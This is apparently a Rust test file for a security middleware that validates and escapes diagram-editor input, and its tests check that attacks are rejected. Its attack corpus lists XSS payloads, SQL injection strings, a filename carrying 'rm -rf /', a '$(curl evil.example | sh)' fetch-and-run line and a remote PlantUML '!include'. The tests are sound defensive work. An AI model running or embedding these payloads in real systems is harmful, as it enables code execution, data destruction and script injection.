//! End-to-end security pipeline tests.
//!
//! These tests drive the public API the way an editor would: validate a
//! field, escape it for preview, and run whole inputs through the
//! middleware with different policies.

use std::sync::{Arc, Mutex};

use umlshield::config::{Config, MiddlewareConfig};
use umlshield::security::{
    EscapeContext, EscapeOptions, InputType, InputValidator, IssueKind, OutputEscaper,
    RealtimeValidator, SecurityLevel, SecurityLog, SecurityMiddleware, TagStripper,
};

/// Typical editor content passes every stage untouched
#[tokio::test]
async fn test_japanese_description_round_trip() {
    let middleware = SecurityMiddleware::new();
    let input = "ユーザーがログイン画面でIDとパスワードを入力する";

    let result = middleware
        .process_securely(Some(input), InputType::General, EscapeContext::Html)
        .await;

    assert!(result.is_secure);
    assert_eq!(result.security_level, SecurityLevel::Safe);
    assert_eq!(result.processed_output, input);
    assert_eq!(result.processed_input, input);
}

/// A full diagram escaped for a PlantUML label
#[tokio::test]
async fn test_sequence_diagram_into_plantuml_label() {
    let middleware = SecurityMiddleware::new();
    let source = "@startuml\nactor ユーザー\nユーザー -> システム: ログイン\n@enduml";

    let result = middleware
        .process_securely(Some(source), InputType::PlantUml, EscapeContext::PlantUml)
        .await;

    let validation = result.validation.as_ref().unwrap();
    assert!(validation.is_valid);
    assert!(!result.processed_output.contains('\n'));
    assert!(result.processed_output.contains("~@startuml"));
    assert!(!result.security_level.is_unsafe());
}

/// Include directives never reach the renderer
#[tokio::test]
async fn test_include_directive_stripped() {
    let middleware = SecurityMiddleware::new();
    let source = "@startuml\n!include https://evil.example/payload.puml\nA -> B\n@enduml";

    let result = middleware
        .process_securely(Some(source), InputType::PlantUml, EscapeContext::PlantUml)
        .await;

    assert!(result.has(IssueKind::PlantumlDirective));
    assert!(!result.processed_output.contains("!include"));
    assert!(result
        .recommendations
        .iter()
        .any(|r| r.contains("preprocessor")));
}

/// Attack corpus is never reported secure
#[tokio::test]
async fn test_attack_corpus_is_rejected() {
    let middleware = SecurityMiddleware::new();
    let attacks = [
        "<script>alert(document.cookie)</script>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "'; DROP TABLE users; --",
        "' UNION SELECT password FROM users",
        "diagram.png; rm -rf /",
        "$(curl evil.example | sh)",
        "constructor.prototype.polluted = true",
        "eval(atob('YWxlcnQoMSk='))",
    ];

    for attack in attacks {
        let result = middleware
            .process_securely(Some(attack), InputType::General, EscapeContext::Html)
            .await;
        assert!(!result.is_secure, "accepted: {attack}");
        assert!(result.threat_score > 0, "zero score: {attack}");
    }

    let stats = middleware.stats();
    assert_eq!(stats.total_processed, attacks.len() as u64);
    assert_eq!(stats.total_blocked, attacks.len() as u64);
}

/// Quarantine plus strict mode from a TOML config
#[tokio::test]
async fn test_policy_from_config_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(
        &path,
        "[middleware]\nstrict_mode = true\nquarantine_mode = true\nmax_threat_score = 50\n",
    )
    .unwrap();

    let config = Config::from_file(&path).unwrap();
    let middleware = SecurityMiddleware::from_config(&config).unwrap();

    let result = middleware
        .process_securely(Some("eval(payload)"), InputType::General, EscapeContext::Html)
        .await;
    assert!(result.quarantined);
    assert!(result.processed_output.is_empty());
    assert!(result.has(IssueKind::Quarantined));
    assert!(result.has(IssueKind::StrictModeViolation));
    assert!(!result.is_secure);
}

/// Incidents reach every handler and land in the shared log
#[tokio::test]
async fn test_incident_fan_out() {
    let log = Arc::new(SecurityLog::new(50));
    let middleware = SecurityMiddleware::with_policy(MiddlewareConfig {
        alert_threshold: 60,
        ..MiddlewareConfig::default()
    })
    .with_log(Arc::clone(&log));

    let ids = Arc::new(Mutex::new(Vec::new()));
    let sink = Arc::clone(&ids);
    middleware.on_incident(move |incident| {
        sink.lock().unwrap().push(incident.id.clone());
    });

    middleware
        .process_securely(Some("<script>1</script>"), InputType::General, EscapeContext::Html)
        .await;
    middleware
        .process_securely(Some("hello"), InputType::General, EscapeContext::Html)
        .await;

    let ids = ids.lock().unwrap();
    assert_eq!(ids.len(), 1);
    assert_eq!(log.incidents.snapshot()[0].id, ids[0]);
    assert_eq!(log.summary().total_incidents, 1);
}

/// Escaped output in every context is free of live markup
#[test]
fn test_every_context_neutralizes_markup() {
    let escaper = OutputEscaper::new();
    let payload = r#"<script>alert("x")</script><img src=x onerror=alert(1)>"#;

    for context in [
        EscapeContext::Html,
        EscapeContext::JavaScript,
        EscapeContext::Css,
        EscapeContext::Url,
        EscapeContext::Xml,
        EscapeContext::PlantUml,
        EscapeContext::Json,
        EscapeContext::Auto,
    ] {
        let result = escaper
            .escape(payload, context, &EscapeOptions::default())
            .unwrap();
        assert!(!result.escaped.contains('<'), "{context}: {}", result.escaped);
        assert!(!result.is_incomplete(), "{context}");
        assert!(!result.dangerous_patterns_found.is_empty(), "{context}");
    }
}

/// Validator with a sanitizer keeps formatting tags only
#[test]
fn test_validator_with_tag_stripper() {
    let validator = InputValidator::new().with_sanitizer(Arc::new(TagStripper::new()));
    let result = validator.validate(
        Some(r#"<em>重要</em><iframe src="x"></iframe><b onclick="x()">太字</b>"#),
        InputType::General,
    );

    assert_eq!(result.sanitized_input, "<em>重要</em><b>太字</b>");
}

/// Debounced validation reports only the final keystroke
#[tokio::test]
async fn test_realtime_typing_burst() {
    let realtime = RealtimeValidator::new(Arc::new(InputValidator::new()))
        .with_debounce(std::time::Duration::from_millis(10));
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();

    let typed = ["<", "<s", "<sc", "<scr", "<script>"];
    for text in typed {
        let tx = tx.clone();
        realtime.validate_realtime(text, InputType::General, move |result| {
            let _ = tx.send(result);
        });
    }
    drop(tx);

    let last = rx.recv().await.unwrap();
    assert!(last.has(IssueKind::XssDetected));
    assert!(rx.recv().await.is_none());
}
